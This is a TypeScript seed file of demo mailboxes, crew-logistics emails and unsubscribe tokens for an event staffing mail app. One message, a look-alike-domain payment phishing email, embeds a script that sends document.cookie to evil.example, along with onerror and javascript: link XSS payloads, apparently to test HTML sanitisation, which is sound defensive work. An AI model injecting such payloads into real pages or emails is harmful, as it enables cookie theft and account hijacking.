/** Demo mailboxes of the moyo tenant, by key. */
export const demoMailboxes = [
  { key: 'office', tenant: 'moyo', name: 'Office', address: 'office@moyocrew.example' },
  { key: 'planning', tenant: 'moyo', name: 'Planning', address: 'planning@moyocrew.example' },
  { key: 'sh-office', tenant: 'acme', name: 'Kantoor', address: 'kantoor@acme.example' },
] as const;

type Address = { address: string; name: string | null };

/** One demo message; `hoursAgo` counts back from the seed moment; attachments are made by the seed. */
export interface DemoMessage {
  mailbox: (typeof demoMailboxes)[number]['key'];
  from: Address;
  to: Address[];
  cc?: Address[];
  subject: string;
  html: string;
  hoursAgo: number;
  unread?: boolean;
  attachments?: { name: string; kind: 'pdf' | 'png'; title: string }[];
}

const office = { address: 'office@moyocrew.example', name: 'Moyo Crew office' };
const planning = { address: 'planning@moyocrew.example', name: 'Moyo Crew planning' };

export const demoMessages: DemoMessage[] = [
  { mailbox: 'office', from: { address: 'production@summersound.example', name: 'Summer Sound Events' }, to: [office],
    cc: [{ address: 'bas@summersound.example', name: 'Bas Vermeulen' }], hoursAgo: 3,
    subject: 'Main stage build – updated crew call times',
    html: '<p>Hi all,</p><p>The <strong>main stage build</strong> now starts at <em>07:00</em> instead of 08:00. Crew call at the Zuiderpark gate B.</p><p>Regards,<br>Summer Sound Events</p>',
    attachments: [{ name: 'call-sheet-main-stage.pdf', kind: 'pdf', title: 'Call sheet – main stage build' }] },
  { mailbox: 'office', from: { address: 'events@northwind.example', name: 'Northwind Insurance' }, to: [office], hoursAgo: 20, unread: false,
    subject: 'Gala floor plan and dress code',
    html: '<h2>Northwind Annual Gala</h2><ul><li>Dress code: black trousers, black shirt</li><li>Floor plan attached</li></ul>',
    attachments: [{ name: 'gala-floor-plan.png', kind: 'png', title: 'Floor plan' }] },
  { mailbox: 'office', from: { address: 'invoice-update@pay-m0yo.example', name: 'Accounts' }, to: [office], hoursAgo: 30,
    subject: 'Action required: confirm your payment details',
    html: '<p>Please confirm your bank details.</p><script>fetch("https://evil.example/steal?c=" + document.cookie)</script>'
      + '<img src="x" onerror="alert(document.domain)"><a href="javascript:alert(1)">Confirm now</a>' },
  { mailbox: 'planning', from: { address: 'bookings@horecava.example', name: 'Horecava Events' }, to: [planning],
    cc: [office], hoursAgo: 50,
    subject: 'Hall 8 – extra riggers on day two',
    html: '<p>Could you add <b>two riggers</b> for day two of the stand build? Same hours as the rest of the crew.</p>' },
  { mailbox: 'planning', from: { address: 'av@aurora.example', name: 'Aurora Software Ltd' }, to: [planning], hoursAgo: 75, unread: false,
    subject: 'AV setup – lighting plot',
    html: '<p>Attached is the final lighting plot for the summit. Load-in through the north dock.</p>',
    attachments: [{ name: 'lighting-plot.pdf', kind: 'pdf', title: 'Lighting plot – Aurora Tech Summit' }] },
  { mailbox: 'sh-office', from: { address: 'info@noordlive.example', name: 'Noord Live' }, to: [{ address: 'kantoor@acme.example', name: null }],
    hoursAgo: 5, subject: 'Load-in Ziggo Dome', html: '<p>Load-in om 08:00.</p>' },
];

/** Unsubscribe tokens as the links in sent e-mails carry them. */
export const demoSubscriptions = [
  { tenant: 'moyo', token: 'unsub-7f3a9c2e-sam-crew-newsletter', address: 'sam.crew@example.com' },
  { tenant: 'moyo', token: 'unsub-1b8d4e6f-claire-hughes-updates', address: 'claire.hughes@summersound.example' },
] as const;
